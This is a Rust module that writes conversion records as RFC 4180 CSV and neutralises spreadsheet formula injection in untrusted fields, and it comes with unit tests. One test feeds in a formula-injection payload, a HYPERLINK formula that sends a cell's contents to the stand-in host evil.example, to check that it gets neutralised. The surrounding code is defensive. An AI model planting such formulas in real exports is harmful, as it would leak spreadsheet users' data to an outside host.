//! CSV as RFC 4180, and the columns of a conversion: what `convapi export --format csv` writes and
//! what the dashboard's conversions download writes, from the same code.
//!
//! Written here rather than with the `csv` crate: quoting is the one rule the RFC needs (a field
//! holding a comma, a quote, CR or LF is quoted, its quotes doubled), and a dozen lines are cheaper
//! to keep than a dependency tree. Records end in CRLF, as the RFC says; a NULL is an empty field.
//!
//! Every CSV of the crate goes through [`record`], because it also holds the one rule that keeps a
//! spreadsheet from running what a stranger sent (docs/decisions.md §1, "CSV and formulas"): ids
//! and UTM values come from the public pixel, so a [`Field::Text`] starting with `=`, `+`, `-`,
//! `@`, a tab or a CR gets a leading `'`. A [`Field::Number`] (a count or an amount we computed)
//! is written as is when it is a plain decimal, which a spreadsheet reads as that number even with
//! a `-`.

use std::borrow::Cow;
use std::io::Write;

use crate::ledger::{Net, State};
use crate::store::{self, conversions::OrderStatus};

/// The header of a conversions CSV, in the order of [`conversion_fields`].
pub const CONVERSION_COLUMNS: [&str; 25] = [
    "eventId",
    "orderId",
    "type",
    "status",
    "sources",
    "value",
    "currency",
    "reportingValue",
    "reportingCurrency",
    "fxRate",
    "fxDate",
    "occurredAt",
    "processedAt",
    "sessionId",
    "visitorId",
    "clientId",
    "attributionModel",
    "attributionSessionId",
    "attributionSource",
    "attributionMedium",
    "attributionCampaign",
    "attempts",
    "lastError",
    "netValue",
    "state",
];

/// A field of a record.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Field {
    /// Text anyone may have chosen (an id, a UTM value, an error message, a header).
    Text(String),
    /// A number this crate wrote (a count, an amount): never neutralised, if it is a plain decimal.
    Number(String),
}

impl From<String> for Field {
    fn from(s: String) -> Field {
        Field::Text(s)
    }
}

impl From<&str> for Field {
    fn from(s: &str) -> Field {
        Field::Text(s.to_owned())
    }
}

/// A number we wrote, as a [`Field::Number`].
pub fn number(n: impl ToString) -> Field {
    Field::Number(n.to_string())
}

/// What a spreadsheet takes for the start of a formula (OWASP's list for CSV injection).
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `-?[0-9]+(\.[0-9]+)?`: read as that number, never as a formula.
fn plain_decimal(s: &str) -> bool {
    let digits = s.strip_prefix('-').unwrap_or(s);
    let (int, frac) = digits.split_once('.').unwrap_or((digits, "0"));
    !int.is_empty()
        && !frac.is_empty()
        && int.bytes().chain(frac.bytes()).all(|b| b.is_ascii_digit())
}

/// The text of a field as a spreadsheet must see it. A "number" that is not a plain decimal is
/// text like any other: a mislabelled field cannot carry a formula through.
fn neutralised(field: &Field) -> Cow<'_, str> {
    match field {
        Field::Number(n) if plain_decimal(n) => Cow::Borrowed(n),
        Field::Text(t) | Field::Number(t) if t.starts_with(FORMULA_START) => {
            Cow::Owned(format!("'{t}"))
        }
        Field::Text(t) | Field::Number(t) => Cow::Borrowed(t),
    }
}

/// One CSV record, CRLF-terminated; a text field that would start a formula is neutralised, and a
/// field is quoted only when it must be.
pub fn record<F: Into<Field>>(
    out: &mut impl Write,
    fields: impl IntoIterator<Item = F>,
) -> std::io::Result<()> {
    for (i, field) in fields.into_iter().enumerate() {
        if i > 0 {
            out.write_all(b",")?;
        }
        let field = field.into();
        let f = neutralised(&field);
        if f.contains([',', '"', '\r', '\n']) {
            out.write_all(b"\"")?;
            out.write_all(f.replace('"', "\"\"").as_bytes())?;
            out.write_all(b"\"")?;
        } else {
            out.write_all(f.as_bytes())?;
        }
    }
    out.write_all(b"\r\n")
}

fn text(s: &Option<String>) -> String {
    s.clone().unwrap_or_default()
}

/// One conversion's fields, as [`CONVERSION_COLUMNS`] names them, with `net` its order's net value
/// and state from its ledger (`store::adjustments::net_shown`; `None`: no net value, `active`, as
/// the status lookup shows it). Amounts and the count of tries are numbers; every id, name and
/// time is text (ours start with a letter or a digit, so the rule leaves them alone).
pub fn conversion_fields(o: &OrderStatus, net: Option<&Net>) -> [Field; 25] {
    let c = &o.conversion;
    let attr = |f: fn(&store::pipeline::Attribution) -> Option<String>| {
        o.attribution.as_ref().and_then(f).unwrap_or_default()
    };
    let num = |s: &Option<String>| Field::Number(text(s));
    [
        c.id.clone().into(),
        text(&c.order_id).into(),
        c.kind.clone().into(),
        o.status.clone().into(),
        o.sources().join(";").into(),
        num(&c.value),
        c.currency.clone().into(),
        num(&o.fx.value),
        text(&o.fx.currency).into(),
        num(&o.fx.rate),
        text(&o.fx.date).into(),
        store::iso(c.occurred_at).into(),
        o.processed_at.map(store::iso).unwrap_or_default().into(),
        text(&c.session_id).into(),
        text(&c.visitor_id).into(),
        text(&c.client_id).into(),
        attr(|a| Some(a.model.clone())).into(),
        attr(|a| a.session_id.clone()).into(),
        attr(|a| Some(a.source.clone())).into(),
        attr(|a| Some(a.medium.clone())).into(),
        attr(|a| a.campaign.clone()).into(),
        number(o.attempts),
        text(&o.last_error).into(),
        net.map(|n| number(n.value)).unwrap_or_else(|| number("")),
        net.map_or(State::Active, |n| n.state).as_str().into(),
    ]
}

#[cfg(test)]
mod tests {
    use super::{number, record as csv_record, Field};

    fn record(fields: &[&str]) -> String {
        fields_record(fields.iter().map(|f| Field::from(*f)))
    }

    fn fields_record(fields: impl IntoIterator<Item = Field>) -> String {
        let mut out = Vec::new();
        csv_record(&mut out, fields).unwrap();
        String::from_utf8(out).unwrap()
    }

    #[test]
    fn text_that_starts_a_formula_gets_a_leading_quote() {
        assert_eq!(
            record(&["=1+1", "+1", "-2+3", "@SUM(1+1)", "\t=1", "\r=1", "-"]),
            "'=1+1,'+1,'-2+3,'@SUM(1+1),'\t=1,\"'\r=1\",'-\r\n"
        );
        assert_eq!(
            record(&["=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")"]),
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"Click\"\")\"\r\n"
        );
        // Only the first character counts.
        assert_eq!(record(&["a=1", " =1", "1-2", ""]), "a=1, =1,1-2,\r\n");
    }

    #[test]
    fn our_numbers_stay_numbers_and_a_false_one_is_text() {
        assert_eq!(
            fields_record([number(12), number("49.90"), number(-3), number("-0.5")]),
            "12,49.90,-3,-0.5\r\n"
        );
        for bad in ["-2+3", "-1e5", "=1", "-", "-.5", "1."] {
            let neutral = if bad.starts_with(['-', '=']) {
                format!("'{bad}\r\n")
            } else {
                format!("{bad}\r\n")
            };
            assert_eq!(fields_record([Field::Number(bad.into())]), neutral, "{bad}");
        }
        assert_eq!(fields_record([Field::Number(String::new())]), "\r\n");
    }

    #[test]
    fn quotes_only_the_fields_that_need_it() {
        assert_eq!(record(&["a", "", "b c"]), "a,,b c\r\n");
        assert_eq!(
            record(&["a,b", "say \"hi\"", "x\ny", "cr\r"]),
            "\"a,b\",\"say \"\"hi\"\"\",\"x\ny\",\"cr\r\"\r\n"
        );
    }
}
